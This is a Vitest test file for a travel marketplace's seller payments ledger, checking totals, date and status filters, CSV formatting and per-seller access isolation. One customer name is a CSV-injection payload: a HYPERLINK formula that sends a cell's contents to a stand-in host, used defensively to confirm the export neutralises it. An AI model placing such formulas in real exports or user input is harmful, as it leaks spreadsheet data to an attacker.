import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SELLER_A, SELLER_B } from "../support/bookings";
import { fillCart, payAndConfirm, startCheckout } from "../support/payments";
import { newCustomer } from "../support/security-fixtures";
import { followUpsDone } from "../support/follow-ups";
import { type Session, bearer, loginViaApi } from "../support/session";
import { todayInIndia } from "../../worker/domain/bookings/transitions";
import { type TestWorker, startWorker } from "../support/worker";

// Issue 15: the seller's payments ledger. Each seller sees their own share of a checkout and the refunds of it,
// filtered by day in India and by status, as JSON, as a page (one D1 round trip) and as a CSV a spreadsheet opens
// safely; no seller sees another's rows, and no other role sees a ledger at all.

type Entry = {
  id: string;
  date: string;
  kind: "payment" | "refund";
  bookingId: string;
  bookingRef: string;
  packageName: string;
  customerName: string;
  amount: number;
  status: string;
  reference: string | null;
  refundReason: string | null;
};

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
/**
 * The seed's payments (worker/db/seed-data.ts, dated relative to the day it is laid): bk_w4 paid about ten months
 * ago, bk_w6 paid seven weeks ago and refunded four days later, bk_w7 paid two weeks ago and refunded by the
 * expiry; the reviewers' trips with Wanderlust (bk_r1, bk_r2, bk_m1, bk_m2) and with Himalayan (bk_h2) paid
 * between about four months and six weeks ago. Refs and days come from the seed's calendar.
 */
const W4 = { ref: "", amount: 5_066_800, day: "" };
/** Wanderlust's reviewers' trips as the seed priced them: Rahul's Goa (two, deluxe, sedan) and Jaipur, Meera's Goa and Jaipur. */
const REVIEWERS_A = { bk_r1: 4_748_200, bk_r2: 1_327_400, bk_m1: 1_699_100, bk_m2: 1_327_400 } as const;
/** bk_h2: Rahul's Kedarnath trek with Himalayan Trails, paid about three months ago. */
const H2 = { ref: "", amount: 1_274_300 };
const W6 = { ref: "", amount: 955_700, paidDay: "", refundDay: "" };
/** bk_w7: paid two weeks ago, left unanswered and refunded by the 48-hour expiry. */
const W7 = { ref: "", amount: 5_522_200 };
/** A stored instant as a day in India (YYYY-MM-DD) and as the CSV writes it (dd/mm/yyyy). */
const dayInIndia = (iso: string) => todayInIndia(new Date(iso));
const csvDay = (day: string) => day.split("-").reverse().join("/");

let w: TestWorker;
let sellerA: Session & { cookie: string };
let sellerB: Session & { cookie: string };
let customer: Session;
/** The customer's checkout of one trip of each seller; seller B rejected theirs. */
const paid = { paymentId: "", providerPaymentId: "", a: { id: "", total: 0 }, b: { id: "", total: 0 } };

const bookingOf = (paymentId: string, sellerId: string) =>
  w.d1
    .prepare("SELECT b.id, b.total FROM bookings b JOIN payment_items i ON i.booking_id = b.id WHERE i.payment_id = ? AND b.seller_id = ?")
    .bind(paymentId, sellerId)
    .first<{ id: string; total: number }>()
    .then((b) => b ?? { id: "", total: 0 });

beforeAll(async () => {
  w = await startWorker();
  const { bookings, payments } = w.seed;
  Object.assign(W4, { ref: bookings.bk_w4.ref, day: dayInIndia(payments.bk_w4.capturedAt) });
  const refunded = payments.bk_w6.refund?.processedAt ?? "";
  W7.ref = bookings.bk_w7.ref;
  H2.ref = bookings.bk_h2.ref;
  Object.assign(W6, { ref: bookings.bk_w6.ref, paidDay: dayInIndia(payments.bk_w6.capturedAt), refundDay: dayInIndia(refunded) });
  [sellerA, sellerB, customer] = await Promise.all([loginViaApi(w, SELLER_A), loginViaApi(w, SELLER_B), newCustomer(w, "ledger")]);
  // Customer names are user input: this one is a spreadsheet formula.
  const renamed = await w.api("PUT", "/api/auth/profile", { name: INJECTION, phone: null }, bearer(customer));
  expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
  await fillCart(w, bearer(customer), ["p_goa", "p_spiti"]);
  const session = await startCheckout(w, bearer(customer));
  const answer = await payAndConfirm(w, bearer(customer), session.paymentId);
  paid.paymentId = session.paymentId;
  paid.providerPaymentId = answer.razorpay_payment_id;
  paid.a = await bookingOf(session.paymentId, "s_wanderlust");
  paid.b = await bookingOf(session.paymentId, "s_himalayan");
  const rejected = await w.api(
    "PUT",
    `/api/bookings/seller/bookings/${paid.b.id}/reject`,
    { message: "Roads closed by snow" },
    bearer(sellerB),
  );
  expect(rejected.status, JSON.stringify(rejected.body)).toBe(200);
  // The refund is the rejection's follow-up on the queue (ADR 0039).
  await followUpsDone(w, paid.b.id);
});
afterAll(() => w?.dispose());

async function ledger(as: Session, query = "") {
  const res = await w.api("GET", `/api/seller-payments${query}`, undefined, bearer(as));
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body as {
    success: true;
    data: Entry[];
    pagination: { page: number; limit: number; total: number; pages: number };
    totals: { received: number; refunded: number; net: number; refundPending: number };
    chart: { bucket: "day" | "month"; points: { period: string; received: number; refunded: number }[] };
  };
}

/** The CSV for API clients, and the payments page's own Download CSV (issue 22): one function, one file. */
const API_CSV = "/api/seller-payments/export.csv";
const PAGE_CSV = "/seller-dashboard/payments.csv";

const csvOf = async (as: { cookie: string }, query = "", path = API_CSV) => {
  const res = await w.request(`${path}${query}`, { headers: { cookie: as.cookie } });
  const bytes = new Uint8Array(await res.arrayBuffer());
  // Response.text() would drop the byte order mark this test looks for.
  return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
};

describe("each seller's share of one checkout", () => {
  it("shows seller A only A's trip and seller B only B's, with the amount each was paid", async () => {
    expect(paid.a.total).toBeGreaterThan(0);
    expect(paid.b.total).toBeGreaterThan(0);
    const a = await ledger(sellerA, "?limit=100");
    const ofA = a.data.filter((e) => e.bookingId === paid.a.id);
    expect(ofA).toEqual([
      expect.objectContaining({
        kind: "payment",
        amount: paid.a.total,
        status: "received",
        packageName: "Goa Beach Escape",
        customerName: INJECTION,
        reference: paid.providerPaymentId,
        bookingRef: expect.stringMatching(/^TB-\d{4}-\d{6}$/),
      }),
    ]);
    expect(a.data.some((e) => e.bookingId === paid.b.id)).toBe(false);

    const b = await ledger(sellerB, "?limit=100");
    expect(b.data.map((e) => [e.kind, e.bookingId, e.amount, e.status])).toEqual([
      ["refund", paid.b.id, -paid.b.total, "refunded"],
      ["payment", paid.b.id, paid.b.total, "received"],
      ["payment", "bk_h2", H2.amount, "received"],
    ]);
    expect(b.data[1].packageName).toBe("Spiti Valley Road Trip");
    // The seed's own paid trip with seller B: Rahul's trek, with its captured payment's reference.
    expect(b.data[2]).toMatchObject({
      bookingRef: H2.ref,
      packageName: "Kedarnath Trek",
      customerName: "Rahul Nair",
      reference: "pay_seed_bk_h2",
    });
  });

  it("shows a rejection's refund as a refund entry, with its reason and the provider's refund id", async () => {
    const b = await ledger(sellerB, "?status=refunded");
    const refund = await w.d1
      .prepare("SELECT provider_refund_id AS id FROM refunds WHERE booking_id = ?")
      .bind(paid.b.id)
      .first<{ id: string }>();
    expect(b.data).toEqual([
      expect.objectContaining({
        kind: "refund",
        bookingId: paid.b.id,
        amount: -paid.b.total,
        refundReason: "rejected",
        reference: refund?.id,
      }),
    ]);
    expect(refund?.id).toBeTruthy();
  });

  it("totals what came in and went back, the seed's payments included, and agrees with the tables", async () => {
    const a = await ledger(sellerA);
    const sum = (sql: string, ...args: unknown[]) =>
      w.d1
        .prepare(sql)
        .bind(...args)
        .first<{ n: number }>()
        .then((r) => r?.n ?? 0);
    const received = await sum(
      "SELECT coalesce(sum(i.amount), 0) AS n FROM payment_items i JOIN payments p ON p.id = i.payment_id WHERE i.seller_id = ? AND p.status = 'captured'",
      "s_wanderlust",
    );
    const refunded = await sum(
      "SELECT coalesce(sum(amount), 0) AS n FROM refunds WHERE seller_id = ? AND status = 'processed'",
      "s_wanderlust",
    );
    const reviewers = Object.values(REVIEWERS_A).reduce((x, y) => x + y, 0);
    expect(received).toBe(W4.amount + W6.amount + W7.amount + reviewers + paid.a.total);
    expect(refunded).toBe(W6.amount + W7.amount);
    expect(a.totals).toEqual({ received, refunded, net: received - refunded, refundPending: 0 });
    // Every payment share and every refund of seller A, counted in the tables: the seed's bk_w4, bk_w6, bk_w7 and
    // four reviewers' payments, bk_w6's and bk_w7's refunds, and this file's checkout.
    const entries =
      (await sum(
        "SELECT count(*) AS n FROM payment_items i JOIN payments p ON p.id = i.payment_id WHERE i.seller_id = ? AND p.status = 'captured'",
        "s_wanderlust",
      )) + (await sum("SELECT count(*) AS n FROM refunds WHERE seller_id = ?", "s_wanderlust"));
    expect(entries).toBe(10);
    expect(a.pagination.total).toBe(entries);
    expect(a.data).toHaveLength(entries);

    const b = await ledger(sellerB);
    expect(b.totals).toEqual({ received: paid.b.total + H2.amount, refunded: paid.b.total, net: H2.amount, refundPending: 0 });
  });
});

describe("filters", () => {
  it("takes dates as days in India: bk_w6's days hold its payment and its refund, with a chart by day", async () => {
    const w6 = await ledger(sellerA, `?from=${W6.paidDay}&to=${W6.refundDay}`);
    expect(w6.data.map((e) => [dayInIndia(e.date), e.kind, e.bookingRef, e.amount])).toEqual([
      [W6.refundDay, "refund", W6.ref, -W6.amount],
      [W6.paidDay, "payment", W6.ref, W6.amount],
    ]);
    expect(w6.totals).toEqual({ received: W6.amount, refunded: W6.amount, net: 0, refundPending: 0 });
    expect(w6.chart).toEqual({
      bucket: "day",
      points: [
        { period: W6.paidDay, received: W6.amount, refunded: 0 },
        { period: W6.refundDay, received: 0, refunded: W6.amount },
      ],
      cut: false,
    });
    const w4 = await ledger(sellerA, `?from=${W4.day}&to=${W4.day}`);
    expect(w4.data.map((e) => [e.kind, e.bookingRef, e.amount])).toEqual([["payment", W4.ref, W4.amount]]);
    // A range of more than two months is charted by month: the months with entries, bk_m2's (paid after the range) not.
    const { payments } = w.seed;
    const reviewerDays = (["bk_r1", "bk_r2", "bk_m1"] as const).map((id) => dayInIndia(payments[id].capturedAt));
    const months = [W4.day, ...reviewerDays, W6.paidDay, W6.refundDay].map((d) => d.slice(0, 7)).sort();
    const long = await ledger(sellerA, `?from=${W4.day}&to=${W6.refundDay}`);
    expect(long.chart.points.map((p) => p.period)).toEqual([...new Set(months)]);
    expect(long.totals.received).toBe(W4.amount + REVIEWERS_A.bk_r1 + REVIEWERS_A.bk_r2 + REVIEWERS_A.bk_m1 + W6.amount);
  });

  it("puts a payment captured at 00:30 in India on that Indian day, not on the UTC one before it", async () => {
    const c = await newCustomer(w, "ledger-midnight");
    await fillCart(w, bearer(c), ["p_jaipur"]);
    const session = await startCheckout(w, bearer(c));
    await payAndConfirm(w, bearer(c), session.paymentId);
    await w.d1.prepare("UPDATE payments SET captured_at = '2026-03-31T19:00:00.000Z' WHERE id = ?").bind(session.paymentId).run();
    const april = await ledger(sellerA, "?from=2026-04-01&to=2026-04-01");
    expect(april.data.map((e) => e.packageName)).toEqual(["Royal Jaipur Heritage"]);
    expect((await ledger(sellerA, "?from=2026-03-31&to=2026-03-31")).data).toEqual([]);
    const { text } = await csvOf(sellerA, "?from=2026-04-01&to=2026-04-01");
    expect(text.split("\r\n")[1]).toMatch(/^01\/04\/2026,"Payment",/);
  });

  it("filters by status, while the totals keep covering the whole range", async () => {
    const all = await ledger(sellerB);
    const received = await ledger(sellerB, "?status=received");
    expect(received.data.map((e) => [e.kind, e.bookingId])).toEqual([
      ["payment", paid.b.id],
      ["payment", "bk_h2"],
    ]);
    expect(received.totals).toEqual(all.totals);
    expect((await ledger(sellerB, "?status=refund-pending")).data).toEqual([]);
    const a = await ledger(sellerA, "?status=refunded");
    expect(a.data.map((e) => e.bookingRef)).toEqual([W7.ref, W6.ref]);
  });

  it("pages the entries newest first", async () => {
    const all = await ledger(sellerA, "?limit=100");
    const second = await ledger(sellerA, "?limit=1&page=2");
    expect(second.data.map((e) => e.id)).toEqual([all.data[1].id]);
    expect(second.pagination).toEqual({ page: 2, limit: 1, total: all.data.length, pages: all.data.length });
    const dates = all.data.map((e) => e.date);
    expect(dates).toEqual([...dates].sort().reverse());
  });

  it("answers a bad query with 422 and the reason, never a 5xx", async () => {
    for (const query of [
      "?from=2026-13-01",
      "?from=2026-02-30",
      "?to=yesterday",
      "?from=2026-11-02&to=2026-11-01",
      "?status=paid",
      "?limit=1000",
      "?page=0",
      "?from=2026-01-01&from=2026-02-01",
    ]) {
      for (const path of ["/api/seller-payments", "/api/seller-payments/export.csv"]) {
        const res = await w.api("GET", `${path}${query}`, undefined, bearer(sellerA));
        expect(res.status, `${path}${query}`).toBe(422);
        expect(res.body).toMatchObject({ success: false, message: expect.any(String), issues: expect.any(Array) });
      }
    }
    const page = await w.request("/seller-dashboard/payments?from=2026-11-02&to=2026-11-01", { headers: { cookie: sellerA.cookie } });
    expect(page.status).toBe(400);
    expect(await page.text()).toContain("The start date must be on or before the end date");
  });
});

describe("the CSV", () => {
  it("is a dated UTF-8 attachment with a BOM, CRLF lines, en-IN dates and rupees as plain numbers", async () => {
    const { res, bytes, text } = await csvOf(sellerA, `?from=${W6.paidDay}&to=${W6.refundDay}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tripbazaar-payments-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replace(/\r\n/g, "")).not.toContain("\n");
    expect(text.slice(1).split("\r\n")).toEqual([
      '"Date","Type","Booking","Package","Customer","Amount (₹)","Status","Reference"',
      `${csvDay(W6.paidDay)},"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9557.00,"Received","pay_seed_bk_w6"`,
      `${csvDay(W6.refundDay)},"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9557.00,"Refunded","rfnd_seed_bk_w6"`,
      "",
    ]);
  });

  it("is the same file, with the same headers, from the payments page's own Download CSV", async () => {
    for (const query of [`?from=${W6.paidDay}&to=${W6.refundDay}`, "?status=refunded", ""]) {
      const api = await csvOf(sellerA, query);
      const page = await csvOf(sellerA, query, PAGE_CSV);
      expect(page.res.status, query).toBe(200);
      for (const header of ["content-type", "content-disposition", "cache-control", "x-content-type-options", "x-ledger-truncated"])
        expect(page.res.headers.get(header), `${header} ${query}`).toBe(api.res.headers.get(header));
      expect(page.text, query).toBe(api.text);
    }
    const bad = await w.request(`${PAGE_CSV}?from=2026-11-02&to=2026-11-01`, { headers: { cookie: sellerA.cookie } });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain("The start date must be on or before the end date");
  });

  it("makes a customer's formula inert: prefixed with ' and its quotes doubled", async () => {
    // The day the payment was captured (before midnight, if the clock crossed one since).
    const captured = await w.d1.prepare("SELECT captured_at AS at FROM payments WHERE id = ?").bind(paid.paymentId).first<{ at: string }>();
    const day = dayInIndia(captured?.at ?? "");
    const { text } = await csvOf(sellerA, `?from=${day}&to=${day}`);
    const row = text.split("\r\n").find((line) => line.includes("Goa Beach Escape"));
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",`);
    expect(row).toMatch(new RegExp(`,${(paid.a.total / 100).toFixed(2)},"Received",`));
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe("isolation and roles", () => {
  const A_ONLY = () => [
    W4.ref,
    W6.ref,
    "Goa Beach Escape",
    "Munnar Tea Trails",
    "Rishikesh Yoga and Rafting",
    "pay_seed_bk_w4",
    "pay_seed_bk_r1",
    "Asha Verma",
    "Meera Iyer",
  ];

  it("never shows seller B seller A's rows: not in the JSON, the CSV or the page, whatever the query names", async () => {
    const json = await w.api(
      "GET",
      "/api/seller-payments?limit=100&sellerId=s_wanderlust&seller_id=s_wanderlust",
      undefined,
      bearer(sellerB),
    );
    expect(json.status).toBe(200);
    expect(json.body.data.map((e: Entry) => [e.kind, e.bookingId])).toEqual([
      ["refund", paid.b.id],
      ["payment", paid.b.id],
      ["payment", "bk_h2"],
    ]);
    const { res, text: csv } = await csvOf(sellerB, "?sellerId=s_wanderlust");
    expect(res.status).toBe(200);
    // The header and seller B's three entries.
    expect(csv.split("\r\n").filter(Boolean)).toHaveLength(4);
    const fromPage = await csvOf(sellerB, "?sellerId=s_wanderlust&seller_id=s_wanderlust", PAGE_CSV);
    expect(fromPage.res.status).toBe(200);
    expect(fromPage.text).toBe(csv);
    const page = await w.request("/seller-dashboard/payments", { headers: { cookie: sellerB.cookie } });
    expect(page.status).toBe(200);
    const html = await page.text();
    for (const answer of [JSON.stringify(json.body), csv, html])
      for (const secret of [...A_ONLY(), paid.a.id]) expect(answer, secret).not.toContain(secret);
    expect(html).toContain("Spiti Valley Road Trip");
  });

  it("renders seller A's page on the server in one D1 round trip, with totals, the chart's figures and CSV link", async () => {
    const res = await w.request(`/seller-dashboard/payments?from=${W6.paidDay}&to=${W6.refundDay}`, {
      headers: { cookie: sellerA.cookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("x-tb-d1-calls")).toBe("1");
    const html = await res.text();
    expect(html).toContain("<title>Payments · Seller dashboard | Tripbazaar</title>");
    expect(html).toContain(W6.ref);
    expect(html).toContain("₹9,557");
    expect(html).toContain(`href="/seller-dashboard/payments.csv?from=${W6.paidDay}&amp;to=${W6.refundDay}"`);
    expect(html).not.toContain("/api/seller-payments");
    expect(html).toContain("Show the chart&#x27;s figures as a table");
    expect(html).not.toContain(W4.ref);
  });

  it("refuses a customer (403) and a visitor without a session (401), as JSON", async () => {
    for (const path of ["/api/seller-payments", "/api/seller-payments/export.csv"]) {
      const asCustomer = await w.api("GET", path, undefined, bearer(customer));
      expect(asCustomer.status, path).toBe(403);
      expect(asCustomer.body.success).toBe(false);
      const anonymous = await w.api("GET", path);
      expect(anonymous.status, path).toBe(401);
      expect(anonymous.body.success).toBe(false);
    }
    const page = await w.request("/seller-dashboard/payments", { headers: { cookie: (await loginViaApi(w, "asha@example.com")).cookie } });
    expect(page.status).toBe(403);
  });

  it("refuses the page's CSV to a traveller (403) and sends a visitor without a session to the login, as the page does", async () => {
    const traveller = await loginViaApi(w, "asha@example.com");
    const asTraveller = await w.request(`${PAGE_CSV}?status=received`, { headers: { cookie: traveller.cookie } });
    expect(asTraveller.status).toBe(403);
    expect(asTraveller.headers.get("content-disposition")).toBeNull();
    expect(await asTraveller.clone().text()).toBe("You do not have permission to view this page");
    expect(await asTraveller.text()).not.toContain("Goa Beach Escape");
    const guest = await w.request(`${PAGE_CSV}?status=received`);
    expect([302, 303]).toContain(guest.status);
    expect(guest.headers.get("location")).toBe(`/login?redirect=${encodeURIComponent(`${PAGE_CSV}?status=received`)}`);
    expect(guest.headers.get("content-disposition")).toBeNull();
  });
});
